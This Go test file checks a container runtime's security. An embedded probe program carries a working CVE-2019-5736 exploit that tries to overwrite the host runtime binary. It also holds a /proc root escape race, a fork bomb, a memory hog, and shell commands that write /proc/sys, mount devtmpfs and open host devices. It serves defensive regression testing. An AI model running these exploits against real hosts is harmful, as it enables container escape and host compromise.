package runtime_test

// Black-box security tests: each one tries an attack from inside a
// container started by the built berth binary and checks it fails.
// BERTH_TEST_RUNTIME=/usr/sbin/runc runs the same tests against another
// runc-compatible runtime (to check the tests themselves).

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/berthproject/berth/internal/fixture"
	specs "github.com/opencontainers/runtime-spec/specs-go"
)

// probeSource is a static helper copied into container rootfses: it
// attempts one privileged operation per argument and prints the result,
// because busybox has no keyctl, ptrace or init_module applet.
const probeSource = `package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"syscall"
	"time"
	"unsafe"
)

func report(name string, err error) {
	if err == nil {
		fmt.Printf("%s: ok\n", name)
		return
	}
	if e, ok := err.(syscall.Errno); ok {
		fmt.Printf("%s: errno %d %v\n", name, int(e), e)
		return
	}
	fmt.Printf("%s: error %v\n", name, err)
}

func str(s string) *byte { p, _ := syscall.BytePtrFromString(s); return p }

func errno(e syscall.Errno) error {
	if e != 0 {
		return e
	}
	return nil
}

func main() {
	switch os.Args[1] {
	case "keyctl":
		// add_key(2) into the session keyring, then keyctl(2) join.
		typ, desc, payload := str("user"), str("berth-test"), str("x")
		_, _, e := syscall.Syscall6(248, uintptr(unsafe.Pointer(typ)), uintptr(unsafe.Pointer(desc)),
			uintptr(unsafe.Pointer(payload)), 1, uintptr(0xfffffffd), 0)
		report("add_key", errno(e))
		_, _, e = syscall.Syscall(250, 1, uintptr(unsafe.Pointer(desc)), 0)
		report("keyctl", errno(e))
	case "ptrace":
		pid, _ := strconv.Atoi(os.Args[2])
		err := syscall.PtraceAttach(pid)
		if err == nil {
			syscall.PtraceDetach(pid)
		}
		report("ptrace", err)
	case "init_module":
		img := make([]byte, 64)
		params := str("")
		_, _, e := syscall.Syscall(175, uintptr(unsafe.Pointer(&img[0])), 64, uintptr(unsafe.Pointer(params)))
		report("init_module", errno(e))
	case "mount":
		report("mount", syscall.Mount("tmpfs", "/tmp", "tmpfs", 0, ""))
	case "hog":
		mb, _ := strconv.Atoi(os.Args[2])
		var keep [][]byte
		for i := 0; i < mb; i++ {
			b := make([]byte, 1<<20)
			for j := range b {
				b[j] = byte(j)
			}
			keep = append(keep, b)
		}
		fmt.Println("hog: survived", len(keep), "MiB")
	case "forkbomb":
		n, _ := strconv.Atoi(os.Args[2])
		var pids []int
		var ferr error
		for len(pids) < n {
			pid, err := syscall.ForkExec("/bin/sleep", []string{"sleep", "60"}, &syscall.ProcAttr{})
			if err != nil {
				ferr = err
				break
			}
			pids = append(pids, pid)
		}
		procs, _ := filepath.Glob("/proc/[0-9]*")
		report(fmt.Sprintf("forkbomb forked=%d procs=%d", len(pids), len(procs)), ferr)
		for _, p := range pids {
			syscall.Kill(p, syscall.SIGKILL)
		}
	case "cve-2019-5736":
		attack(os.Args[2])
	case "rootrace":
		rootRace(os.Args[2], os.Args[3])
	}
}

// rootRace watches for processes that are not ours (the runtime's init
// while it joins the container for exec) and tries to reach the host-only
// path marker through their /proc/<pid>/root and cwd, until stop appears.
func rootRace(marker, stop string) {
	self := os.Getpid()
	seen := map[int]bool{}
	escaped := map[string]bool{}
	scans := 0
	for {
		if _, err := os.Stat(stop); err == nil {
			break
		}
		scans++
		d, err := os.Open("/proc")
		if err != nil {
			fmt.Println("rootrace: no /proc:", err)
			return
		}
		names, _ := d.Readdirnames(-1)
		d.Close()
		for _, n := range names {
			pid, err := strconv.Atoi(n)
			if err != nil || pid == self || pid == 1 {
				continue
			}
			seen[pid] = true
			for _, via := range []string{"root", "cwd"} {
				p := "/proc/" + n + "/" + via + marker
				if fd, err := syscall.Open(p, syscall.O_RDONLY|0x200000 /* O_PATH */, 0); err == nil {
					syscall.Close(fd)
					if !escaped[p] {
						escaped[p] = true
						fmt.Printf("ESCAPED: %s exists\n", p)
					}
				}
			}
		}
	}
	fmt.Printf("rootrace: done; %d scans, %d other processes seen\n", scans, len(seen))
}

// attack plays the CVE-2019-5736 exploit: grab a handle to the exe of
// every process that is not ours (the runtime while it joins or starts
// the container), and try to reopen it for writing through
// /proc/self/fd until the stop file appears.
func attack(stop string) {
	self := os.Getpid()
	seen := map[string]bool{}
	var fds []int
	denied := map[int]bool{}
	scans := 0
	ready := false
	for {
		if _, err := os.Stat(stop); err == nil {
			break
		}
		if !ready {
			os.WriteFile("/tmp/attacker-ready", nil, 0o644)
			ready = true
		}
		scans++
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == self {
				continue
			}
			p := filepath.Join("/proc", e.Name(), "exe")
			link, err := os.Readlink(p)
			if err != nil && !os.IsNotExist(err) {
				denied[pid] = true // not dumpable: the runtime hides itself
			}
			if err != nil || link == "/bin/busybox" || link == "/probe" {
				continue
			}
			if fd, err := syscall.Open(p, syscall.O_WRONLY, 0); err == nil {
				n, _ := syscall.Write(fd, []byte("#pwned"))
				fmt.Printf("WROTE %d bytes to %s directly\n", n, link)
				syscall.Close(fd)
			}
			if fd, err := syscall.Open(p, 0x200000 /* O_PATH */, 0); err == nil {
				fds = append(fds, fd)
				if !seen[link] {
					seen[link] = true
					fmt.Printf("grabbed %s\n", link)
				}
			}
		}
		for i := 0; i < len(fds); i++ {
			w, err := syscall.Open("/proc/self/fd/"+strconv.Itoa(fds[i]), syscall.O_WRONLY, 0)
			if err == nil {
				n, _ := syscall.Write(w, []byte("#pwned"))
				link, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fds[i]))
				fmt.Printf("WROTE %d bytes to %s through a handle\n", n, link)
				syscall.Close(w)
			} else if err != syscall.ETXTBSY {
				syscall.Close(fds[i])
				fds = append(fds[:i], fds[i+1:]...)
				i--
			}
		}
		if len(fds) > 200 {
			for _, fd := range fds[:100] {
				syscall.Close(fd)
			}
			fds = fds[100:]
		}
		time.Sleep(200 * time.Microsecond)
	}
	fmt.Printf("attack: done; %d foreign exe links opened, %d processes refused access, %d scans\n", len(seen), len(denied), scans)
}
`

// secEnv is what every security subtest shares: the runtime binary (built
// berth unless BERTH_TEST_RUNTIME says otherwise), the probe, a rootfs
// template and a state root.
type secEnv struct {
	runtime []string // argv prefix of the runc-compatible CLI
	bin     string   // the host binary an attacker would overwrite
	probe   string
	root    string // --root
	tmp     string
	n       int
	mu      sync.Mutex
}

func newSecEnv(t *testing.T) *secEnv {
	fixture.RequireRoot(t)
	e := &secEnv{tmp: t.TempDir()}
	e.root = filepath.Join(e.tmp, "state")
	if rt := os.Getenv("BERTH_TEST_RUNTIME"); rt != "" {
		e.bin = rt
		e.runtime = []string{rt}
	} else {
		e.bin = filepath.Join(e.tmp, "berth")
		build := exec.Command("go", "build", "-o", e.bin, "../cmd/berth")
		build.Env = append(os.Environ(), "CGO_ENABLED=0")
		if out, err := build.CombinedOutput(); err != nil {
			t.Fatalf("building berth: %v\n%s", err, out)
		}
		e.runtime = []string{e.bin, "runtime"}
	}
	src := filepath.Join(e.tmp, "probe-src")
	os.MkdirAll(src, 0o755)
	os.WriteFile(filepath.Join(src, "go.mod"), []byte("module probe\n\ngo 1.21\n"), 0o644)
	os.WriteFile(filepath.Join(src, "main.go"), []byte(probeSource), 0o644)
	e.probe = filepath.Join(e.tmp, "probe")
	build := exec.Command("go", "build", "-o", e.probe, ".")
	build.Dir = src
	build.Env = append(os.Environ(), "CGO_ENABLED=0", "GOFLAGS=-mod=mod", "GOWORK=off")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("building probe: %v\n%s", err, out)
	}
	t.Cleanup(func() {
		// Containers a failed subtest left running must not outlive it.
		out, _ := exec.Command(e.runtime[0], append(e.runtime[1:], "--root", e.root, "list", "-q")...).Output()
		for _, id := range strings.Fields(string(out)) {
			e.cli(context.Background(), "kill", id, "KILL").Run()
			e.cli(context.Background(), "delete", "--force", id).Run()
		}
	})
	return e
}

func (e *secEnv) cli(ctx context.Context, args ...string) *exec.Cmd {
	a := append(append([]string{}, e.runtime[1:]...), "--root", e.root)
	return exec.CommandContext(ctx, e.runtime[0], append(a, args...)...)
}

// bundle makes a fresh busybox bundle (with the probe at /probe) whose
// config is the runtime's own default spec, edited by edit.
func (e *secEnv) bundle(t *testing.T, edit func(*specs.Spec)) (dir, id string) {
	t.Helper()
	e.mu.Lock()
	e.n++
	n := e.n
	e.mu.Unlock()
	id = fmt.Sprintf("sec-%d-%d", os.Getpid(), n)
	dir = filepath.Join(e.tmp, id)
	rootfs := filepath.Join(dir, "rootfs")
	if err := fixture.Busybox(rootfs); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(e.probe)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(rootfs, "probe"), data, 0o755); err != nil {
		t.Fatal(err)
	}
	spec := exec.Command(e.runtime[0], append(append([]string{}, e.runtime[1:]...), "spec")...)
	spec.Dir = dir
	if out, err := spec.CombinedOutput(); err != nil {
		t.Fatalf("%s spec: %v: %s", e.runtime[0], err, out)
	}
	var s specs.Spec
	raw, err := os.ReadFile(filepath.Join(dir, "config.json"))
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(raw, &s); err != nil {
		t.Fatalf("default spec: %v", err)
	}
	s.Process.Terminal = false
	if edit != nil {
		edit(&s)
	}
	raw, _ = json.MarshalIndent(&s, "", "  ")
	if err := os.WriteFile(filepath.Join(dir, "config.json"), raw, 0o644); err != nil {
		t.Fatal(err)
	}
	return dir, id
}

type result struct {
	out, err string
	code     int
}

// run runs args in a fresh default bundle (edited by edit) with
// `runtime run` and returns its output and exit status.
func (e *secEnv) run(t *testing.T, edit func(*specs.Spec), args ...string) result {
	t.Helper()
	dir, id := e.bundle(t, func(s *specs.Spec) {
		s.Process.Args = args
		if edit != nil {
			edit(s)
		}
	})
	return e.runBundle(t, dir, id)
}

func (e *secEnv) runBundle(t *testing.T, dir, id string) result {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	cmd := e.cli(ctx, "run", "--bundle", dir, id)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	cmd.WaitDelay = 5 * time.Second
	err := cmd.Run()
	r := result{out: out.String(), err: errb.String()}
	if ctx.Err() != nil {
		t.Fatalf("run %v timed out; stdout %q stderr %q", cmd.Args, r.out, r.err)
	}
	if err != nil {
		ee, ok := err.(*exec.ExitError)
		if !ok {
			t.Fatalf("run %v: %v", cmd.Args, err)
		}
		r.code = ee.ExitCode()
	}
	return r
}

func sh(script string) []string { return []string{"/bin/sh", "-c", script} }

func fileSum(t *testing.T, path string) string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	h := sha256.New()
	if _, err := io.Copy(h, f); err != nil {
		t.Fatal(err)
	}
	return hex.EncodeToString(h.Sum(nil))
}

// permErr reports whether a probe line says the operation was refused
// for lack of privilege (EPERM, EACCES, or ENOSYS from a seccomp filter),
// not merely failed on bad arguments.
func permErr(line string) bool {
	return strings.Contains(line, "errno 1 ") || strings.Contains(line, "errno 13 ") || strings.Contains(line, "errno 38 ")
}

func probeLine(out, name string) string {
	for _, l := range strings.Split(out, "\n") {
		if strings.HasPrefix(l, name+": ") {
			return l
		}
	}
	return ""
}

func TestSecurity(t *testing.T) {
	e := newSecEnv(t)

	t.Run("Sanity", func(t *testing.T) {
		r := e.run(t, nil, "/bin/echo", "hello")
		if r.code != 0 || r.out != "hello\n" {
			t.Fatalf("echo hello: exit %d, stdout %q, stderr %q", r.code, r.out, r.err)
		}
	})

	t.Run("NoHostFdLeak", func(t *testing.T) {
		// CVE-2024-21626: only stdio (and the fd ls opens on the dir).
		r := e.run(t, nil, "/bin/ls", "/proc/self/fd")
		if r.code != 0 {
			t.Fatalf("ls: exit %d: %s", r.code, r.err)
		}
		fds := strings.Fields(r.out)
		if len(fds) > 4 || len(fds) < 3 {
			t.Fatalf("/proc/self/fd inside the container: %v, want 0 1 2 (+ ls's own)", fds)
		}
		for _, fd := range fds {
			if n, _ := strconv.Atoi(fd); n > 3 {
				t.Fatalf("/proc/self/fd inside the container: %v: fd %d leaked from the host", fds, n)
			}
		}
	})

	t.Run("NoHostFdLeakExec", func(t *testing.T) {
		// The original CVE-2024-21626 attack went through exec.
		dir, id := e.bundle(t, func(s *specs.Spec) { s.Process.Args = []string{"sleep", "60"} })
		if err := e.tryDetach(t, dir, id); err != nil {
			t.Fatal(err)
		}
		ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
		defer cancel()
		out, err := e.cli(ctx, "exec", id, "/bin/ls", "/proc/self/fd").Output()
		if err != nil {
			t.Fatalf("exec ls: %v", err)
		}
		for _, fd := range strings.Fields(string(out)) {
			if n, _ := strconv.Atoi(fd); n > 3 {
				t.Fatalf("/proc/self/fd in an exec'd process: %s: fd %d leaked", out, n)
			}
		}
		for _, n := range []int{3, 4, 5, 6, 7, 8} {
			cwd := fmt.Sprintf("/proc/self/fd/%d", n)
			out, err := e.cli(ctx, "exec", "--cwd", cwd, id, "/bin/sh", "-c", "pwd; ls ..").CombinedOutput()
			if err == nil {
				t.Fatalf("exec --cwd %s ran: %q", cwd, out)
			}
		}
	})

	t.Run("CwdProcSelfFdRefused", func(t *testing.T) {
		for _, n := range []int{3, 4, 5, 6, 7, 8} {
			r := e.run(t, func(s *specs.Spec) { s.Process.Cwd = fmt.Sprintf("/proc/self/fd/%d", n) },
				"/bin/sh", "-c", "pwd; ls ..")
			if r.code == 0 {
				t.Fatalf("cwd /proc/self/fd/%d started: stdout %q", n, r.out)
			}
		}
	})

	t.Run("DefaultSpecSeccomp", func(t *testing.T) {
		// Only a seccomp filter in the default spec (Docker's profile)
		// stops these: keyrings are not namespaced, and creating a user
		// namespace needs no capability.
		r := e.run(t, nil, sh(`unshare -U true 2>/dev/null && echo UNSHARE-OK; /probe keyctl`)...)
		if strings.Contains(r.out, "UNSHARE-OK") {
			t.Errorf("default spec allowed unshare -U")
		}
		for _, name := range []string{"add_key", "keyctl"} {
			l := probeLine(r.out, name)
			if l == "" {
				t.Errorf("probe %s printed nothing: stdout %q stderr %q", name, r.out, r.err)
			} else if !permErr(l) {
				t.Errorf("default spec allowed it: %s", l)
			}
		}
	})

	t.Run("DefaultSpecDenies", func(t *testing.T) {
		hostPid := os.Getpid()
		r := e.run(t, nil, sh(strings.Join([]string{
			`echo berth > /proc/sys/kernel/hostname && echo PROCSYS-WRITABLE`,
			`v=$(sed -n 's/.*\[\(.*\)\].*/\1/p' /sys/kernel/mm/transparent_hugepage/enabled); echo "thp=$v"; echo "$v" > /sys/kernel/mm/transparent_hugepage/enabled && echo SYS-WRITABLE`,
			`echo kcore-bytes=$(head -c 16 /proc/kcore 2>/dev/null | wc -c)`,
			`mount -t tmpfs tmpfs /mnt 2>/dev/null && echo MOUNT-OK`,
			`/probe ptrace ` + strconv.Itoa(hostPid) + `; /probe init_module; /probe mount`,
		}, "\n"))...)
		for _, bad := range []string{"PROCSYS-WRITABLE", "SYS-WRITABLE", "MOUNT-OK"} {
			if strings.Contains(r.out, bad) {
				t.Errorf("default spec allowed it: %s", bad)
			}
		}
		if strings.Contains(r.out, "thp=\n") {
			t.Errorf("could not read a /sys setting to write back (the /sys check proves nothing): %q", r.out)
		}
		if !strings.Contains(r.out, "kcore-bytes=0") {
			t.Errorf("masked /proc/kcore readable: %q", r.out)
		}
		for _, name := range []string{"init_module", "mount"} {
			l := probeLine(r.out, name)
			if l == "" {
				t.Errorf("probe %s printed nothing: stdout %q stderr %q", name, r.out, r.err)
			} else if !permErr(l) {
				t.Errorf("default spec allowed it or failed oddly: %s", l)
			}
		}
		if l := probeLine(r.out, "ptrace"); l == "" || strings.HasSuffix(l, ": ok") {
			t.Errorf("ptrace of host pid %d: %q", hostPid, l)
		}
		st, _ := os.ReadFile("/proc/self/status")
		if !strings.Contains(string(st), "TracerPid:\t0") {
			t.Errorf("the test process is traced after the probe")
		}
	})

	t.Run("HostDevicesStayOutOfReach", func(t *testing.T) {
		// Without resource limits berth makes no cgroup and enforces the
		// deny-all device rule with nodev mounts. CAP_SYS_ADMIN could
		// mount a devtmpfs (every host device node, not nodev): then the
		// device cgroup must do it, as under runc.
		r := e.run(t, func(s *specs.Spec) {
			c := s.Process.Capabilities
			c.Bounding = append(c.Bounding, "CAP_SYS_ADMIN")
			c.Effective = append(c.Effective, "CAP_SYS_ADMIN")
			c.Permitted = append(c.Permitted, "CAP_SYS_ADMIN")
			s.Linux.Seccomp = nil
		}, sh(`mkdir -p /dev/x && mount -t devtmpfs none /dev/x && echo MOUNTED; : < /dev/x/loop-control && echo HOSTDEV-OPEN`)...)
		if !strings.Contains(r.out, "MOUNTED") {
			t.Fatalf("devtmpfs not mounted (the test needs it): %q %q", r.out, r.err)
		}
		if strings.Contains(r.out, "HOSTDEV-OPEN") {
			t.Errorf("a host device outside the allowed ones opened: %q", r.out)
		}
		// The same through a devtmpfs in the spec's own mounts.
		r = e.run(t, func(s *specs.Spec) {
			s.Mounts = append(s.Mounts, specs.Mount{Destination: "/mnt", Type: "devtmpfs", Source: "none"})
		}, sh(`ls /mnt/loop-control && echo MOUNTED; : < /mnt/loop-control && echo HOSTDEV-OPEN`)...)
		if !strings.Contains(r.out, "MOUNTED") {
			t.Fatalf("devtmpfs not mounted (the test needs it): %q %q", r.out, r.err)
		}
		if strings.Contains(r.out, "HOSTDEV-OPEN") {
			t.Errorf("a host device from a devtmpfs mount opened: %q", r.out)
		}
	})

	t.Run("PidsLimit", func(t *testing.T) {
		limit := int64(32)
		r := e.run(t, func(s *specs.Spec) {
			if s.Linux.Resources == nil {
				s.Linux.Resources = &specs.LinuxResources{}
			}
			s.Linux.Resources.Pids = &specs.LinuxPids{Limit: &limit}
		}, "/probe", "forkbomb", "200")
		var forked, procs int
		i := strings.Index(r.out, "forkbomb ")
		if i < 0 {
			t.Fatalf("no result: exit %d stdout %q stderr %q", r.code, r.out, r.err)
		}
		if _, err := fmt.Sscanf(r.out[i:], "forkbomb forked=%d procs=%d", &forked, &procs); err != nil {
			t.Fatalf("bad result %q: %v", r.out, err)
		}
		// The probe's own threads count too, so it stops short of the limit.
		if forked >= int(limit) || procs > int(limit) || !strings.Contains(r.out, "errno 11 ") {
			t.Fatalf("pids.limit %d: %s", limit, strings.TrimSpace(r.out))
		}
		if forked < 5 {
			t.Fatalf("could fork only %d processes: %s", forked, r.out)
		}
	})

	t.Run("MemoryLimitOOMKill", func(t *testing.T) {
		limit := int64(32 << 20)
		r := e.run(t, func(s *specs.Spec) {
			if s.Linux.Resources == nil {
				s.Linux.Resources = &specs.LinuxResources{}
			}
			s.Linux.Resources.Memory = &specs.LinuxMemory{Limit: &limit, Swap: &limit}
		}, "/probe", "hog", "256")
		if r.code != 137 || strings.Contains(r.out, "survived") {
			t.Fatalf("256 MiB hog under a 32 MiB limit: exit %d (want 137), stdout %q stderr %q", r.code, r.out, r.err)
		}
	})

	t.Run("SymlinkMountDestinationStaysInRootfs", func(t *testing.T) {
		host := filepath.Join(e.tmp, "host-target")
		if err := os.MkdirAll(host, 0o755); err != nil {
			t.Fatal(err)
		}
		src := filepath.Join(e.tmp, "bind-src")
		os.MkdirAll(src, 0o755)
		os.WriteFile(filepath.Join(src, "marker"), []byte("inside"), 0o644)
		dir, id := e.bundle(t, func(s *specs.Spec) {
			s.Process.Args = sh("cat /abs/newdir/marker /rel/newdir2/marker; ls -l /abs/null-dev")
			s.Mounts = append(s.Mounts,
				specs.Mount{Destination: "/abs/newdir", Type: "bind", Source: src, Options: []string{"bind"}},
				specs.Mount{Destination: "/rel/newdir2", Type: "bind", Source: src, Options: []string{"rbind"}},
			)
			s.Linux.Devices = append(s.Linux.Devices, specs.LinuxDevice{
				Path: "/abs/null-dev", Type: "c", Major: 1, Minor: 3,
			})
		})
		rootfs := filepath.Join(dir, "rootfs")
		// An absolute link and a relative one climbing out of the rootfs,
		// both naming the host directory.
		if err := os.Symlink(host, filepath.Join(rootfs, "abs")); err != nil {
			t.Fatal(err)
		}
		up := strings.Repeat("../", strings.Count(rootfs, "/")+3)
		if err := os.Symlink(filepath.Join(up, host), filepath.Join(rootfs, "rel")); err != nil {
			t.Fatal(err)
		}
		r := e.runBundle(t, dir, id)
		ents, _ := os.ReadDir(host)
		if len(ents) != 0 {
			var names []string
			for _, en := range ents {
				names = append(names, en.Name())
			}
			t.Fatalf("the host directory behind the symlinks was written to: %v (run exit %d, %s)", names, r.code, r.err)
		}
		// Either the runtime refused the bundle or the mounts landed
		// inside the rootfs, where the container sees them.
		if r.code == 0 && !strings.Contains(r.out, "insideinside") {
			t.Fatalf("run succeeded but the mounts are not where the container looks: %q", r.out)
		}
	})

	t.Run("CVE-2019-5736", func(t *testing.T) {
		before := fileSum(t, e.bin)
		stop := "/tmp/attacker-stop"
		dir, id := e.bundle(t, func(s *specs.Spec) {
			s.Process.Args = []string{"/probe", "cve-2019-5736", stop}
			s.Root.Readonly = false // the attacker signals readiness in /tmp
		})
		rootfs := filepath.Join(dir, "rootfs")
		// The runtime execs this while it is still itself: under a
		// vulnerable runtime, /proc/self/exe is the host binary.
		if err := os.WriteFile(filepath.Join(rootfs, "evil"), []byte("#!/proc/self/exe\n"), 0o755); err != nil {
			t.Fatal(err)
		}
		ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
		defer cancel()
		attacker := e.cli(ctx, "run", "--bundle", dir, id)
		var aout bytes.Buffer
		attacker.Stdout, attacker.Stderr = &aout, &aout
		attacker.WaitDelay = 5 * time.Second
		if err := attacker.Start(); err != nil {
			t.Fatal(err)
		}
		for i := 0; ; i++ {
			if _, err := os.Stat(filepath.Join(rootfs, "tmp/attacker-ready")); err == nil {
				break
			}
			if i > 300 {
				t.Fatalf("attacker did not start: %s", aout.String())
			}
			time.Sleep(100 * time.Millisecond)
		}
		// During exec: the runtime joins the container and execs /evil.
		for i := 0; i < 10; i++ {
			out, err := e.cli(ctx, "exec", id, "/evil").CombinedOutput()
			if i == 0 {
				t.Logf("exec /evil: %v: %s", err, out)
			}
			if out, err := e.cli(ctx, "exec", id, "/bin/true").CombinedOutput(); err != nil {
				t.Fatalf("exec /bin/true: %v: %s", err, out)
			}
		}
		// During run: a second container in the attacker's pid namespace
		// whose process is /evil.
		var st struct{ Pid int }
		if out, err := e.cli(ctx, "state", id).Output(); err == nil {
			json.Unmarshal(out, &st)
		}
		if st.Pid > 0 {
			for i := 0; i < 5; i++ {
				d2, id2 := e.bundle(t, func(s *specs.Spec) {
					s.Process.Args = []string{"/evil"}
					for j := range s.Linux.Namespaces {
						if s.Linux.Namespaces[j].Type == specs.PIDNamespace {
							s.Linux.Namespaces[j].Path = fmt.Sprintf("/proc/%d/ns/pid", st.Pid)
						}
					}
				})
				e.runBundle(t, d2, id2)
			}
		}
		os.WriteFile(filepath.Join(rootfs, stop), nil, 0o644)
		attacker.Wait()
		if after := fileSum(t, e.bin); after != before {
			t.Fatalf("the host runtime binary %s was overwritten from inside the container:\n%s", e.bin, aout.String())
		}
		// Even a copy of the runtime must not be writable (it would be the
		// next one executed, if the runtime ever re-used it).
		if strings.Contains(aout.String(), "WROTE") {
			t.Fatalf("attacker wrote to a runtime binary:\n%s", aout.String())
		}
		t.Logf("attacker output:\n%s", aout.String())
	})
}
